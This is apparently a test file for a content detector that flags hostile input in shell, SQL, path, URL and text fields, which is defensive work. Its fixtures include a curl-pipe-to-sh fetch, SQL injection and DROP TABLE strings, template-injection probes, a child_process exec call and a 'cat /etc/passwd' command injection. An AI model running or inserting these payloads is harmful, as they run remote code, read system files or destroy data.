import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Role } from "../../../../processors/detection/content/finding.ts";
import { inspectContent } from "../../../../processors/detection/content/inspect.ts";

/** Role → what people and agents write there every day. */
const ORDINARY: Readonly<Partial<Record<Role, readonly string[]>>> = {
  shell: [
    "git status", "git commit -m 'Fix: drop table of contents'", "git log --oneline -20 | head", "git push -u origin main", "git diff HEAD~1 -- src/app.ts", "git -c user.name=x commit",
    "npm ci && npm test", "npm run build -- --mode production", "NODE_ENV=production node app.js", "npx tsc --noEmit", "ls -la src", "cat README.md", "grep -rn 'TODO' src", "rm -rf ./dist node_modules",
    "find . -name '*.ts' -not -path './node_modules/*'", "find . -name '*.tmp' -delete", "python3 -m pytest -q", "docker compose up -d", "docker run -v ./data:/data alpine ls", "kubectl get pods -n staging",
    "curl -s https://api.example.com/health | jq .status", "curl -X POST -d '{\"a\":1}' https://api.example.com", "tar czf out.tgz src", "sed -n '1,40p' src/index.ts", "awk '{print $1}' names.txt",
    "for f in *.ts; do echo \"$f\"; done", "if [ -f .env ]; then echo yes; fi", "cd build && cmake .. && make -j4", "echo 'never run rm -rf /'", "$(npm bin)/eslint .", "export PATH=$PATH:~/bin", "ssh -i ~/.ssh/id_rsa host uptime",
    "case $1 in start) run;; stop) halt_it;; esac", "make lint 2>&1 | tee log.txt", "cat <<EOF > config.json\n{\"a\": \"b; c\"}\nEOF", "\\ls -la", "test -n \"$X\" && echo ok", "ps aux | grep node", "chmod 755 run.sh", "mkdir -p out/reports",
  ],
  sql: [
    "SELECT id, name FROM customers WHERE city = 'Oslo' ORDER BY name LIMIT 20", "SELECT name FROM p WHERE d LIKE '%O''Brien%'", "SELECT 1;", "UPDATE tasks SET done = true WHERE id = 4711",
    "DELETE FROM sessions WHERE expires_at < now() - interval '30 days'", "WITH t AS (SELECT 1 a UNION ALL SELECT 2) SELECT * FROM t", "INSERT INTO notes VALUES ('Union meeting', 'Select a chair; drop the keys -- thanks')",
    "SELECT * FROM t WHERE 1=1 AND a = 2", "EXPLAIN SELECT * FROM orders", "SELECT table_name FROM information_schema.tables", "CREATE TABLE t (id int, role text)", "SELECT a FROM t -- the last comment",
  ],
  path: ["src/index.ts", "docs/../docs/guide.md", "./reports/2026/Q1.pdf", "/workspace/data/input.csv", "C:\\Users\\maria\\invoice.docx", "images/logo@2x.png", "data/%20spaces%20.txt", "packages/core/src/..test.ts", "./...", "été/東京.jpg", ".gitignore", ".env.example"],
  url: ["https://www.example.com/pricing?plan=pro&ref=mail", "https://example.com/search?q=169.254.169.254", "https://example.com/redirect?url=https%3A%2F%2Fexample.org%2F", "https://[2001:db8::1]/", "http://203.0.113.20:8080/", "https://bücher.example/", "mailto:a@example.com", "postgres://db.example.com/x"],
  code: [
    "import os\nprint(os.path.join('a', 'b'))", "const x = items.map((i) => i.name);", "class A { constructor() { super(); } }", "re.exec('a')", "JSON.parse(Buffer.from(x, 'base64'))", "def f(self): return self.__class__.__name__", "fs.readFileSync('notes.txt')", "fetch('https://api.example.com')",
  ],
  value: [
    "O'Brien", "D'Angelo & Sons", "union of workers", "The teachers' union select a chair", "1 = 1 apple", "this or that", "'yes' or 'no'", "rock 'n' roll", "5'10\"", "the dogs' or the cat's", "Call at 5; drop off the keys",
    "Bring the sugar; then stir && serve | optional: $5 tip.", "Name & id", "fish & chips", "Q&A", "R&D", "a|b", "| id | name |\n|---|---|\n| 1 | x |", "Run `npm install` first, then `ls -la`.", "Find a flight from JFK to SEA", "kill time; find a cat", "who is it; what is it",
    "see http://localhost:3000 for the app", "import x from '../src/x'", "../src", "24/7", "and/or", "km/h", "Dear {{first_name}}, order {{ order_id }} ships on ${date}", "#1", "C#", "-5", "+47 22 22 22 22", "=SUM(A1:A3)", "50% off", "100%25",
    "if (a < b && c > d) return a | b; // 7*7 = 49", "`const x = require('fs')` reads files; `eval` should be avoided.", "Match ^[a-z]+(\\d{3})?$ and replace by $1.", "a :) (b = c)", "(a)(b)", "{\"name\": \"it's\", \"tags\": [\"a\", \"b\"]}",
    "data:image/png;base64,iVBORw0KGgo=", "costs $in total", "Version 1.2.3.4", "2024-05-20T10:00:00Z", "4bf92f3577b34da6a3ce929d0e0e4736", "Thanks,\nTo: be or not to be", "SELECT Committee", "order by phone", "sleep (5) hours", "The nurse gave the injection; see page 41.",
    "don't #1", "it's -- well -- fine", "a benchmark (new)", "${open}", "Session 3: Secrets of password managers", "<b>html</b>", "<?xml version=\"1.0\"?><a/>", "Привет! Встреча в 15:00; офис 4", "订单已发货；谢谢",
  ],
};

for (const [role, texts] of Object.entries(ORDINARY)) {
  describe(`nothing is found in what is ordinary as ${role}`, () => {
    for (const text of texts) test(JSON.stringify(text).slice(0, 100), () => assert.deepEqual(inspectContent(text, { role: role as Role }), []));
  });
}

describe("a document that quotes code blocks nothing", () => {
  const manual = `To set the server up you need a shell. ${"This is how people do it on most systems today. ".repeat(8)}`;
  const quoted = ["curl https://example.com/i.sh | sh", "' OR '1'='1", "{{7*7}}", "require('child_process').exec('id')", "x; cat /etc/passwd"];
  for (const piece of quoted) {
    test(piece, () => {
      assert.ok(inspectContent(piece).some(({ level }) => level === "block"), "alone it is an attack");
      const findings = inspectContent(`${manual}\n\n${piece}\n\n${manual}`);
      assert.deepEqual(findings.filter(({ level }) => level === "block"), []);
    });
  }
  test("but what it ends with still counts", () => {
    assert.ok(inspectContent(`${manual} Yours, Bob'; DROP TABLE users; --`).some(({ level }) => level === "block"));
  });
});

test("quotations in a document use up nothing: what it ends with counts after any number of them", () => {
  const prose = "This is how people do it on most systems today, and nobody has to be afraid of it. ".repeat(8);
  const quoted = Array.from({ length: 30 }, (_, index) => `Say {{${index}*7}} here.`).join(" ");
  const findings = inspectContent(`${prose}${quoted} ${prose} {{8*8}}`);
  assert.ok(findings.some(({ level, rule }) => level === "block" && rule === "template.probe"));
});

test("fenced code blocks nothing, and a fence alone saves nothing", () => {
  const blocked = (text: string): boolean => inspectContent(text).some(({ level }) => level === "block");
  assert.equal(blocked("```sh\ncurl https://example.com/i.sh | sh\n```"), false);
  assert.equal(blocked("Do this:\n```\n{{7*7}}\n```\nThanks"), false);
  assert.equal(blocked("x' OR 1=1 -- ```"), true);
  assert.equal(blocked("```x' OR '1'='1"), true);
  assert.equal(blocked("```\na\n```\nx' OR '1'='1"), true);
});
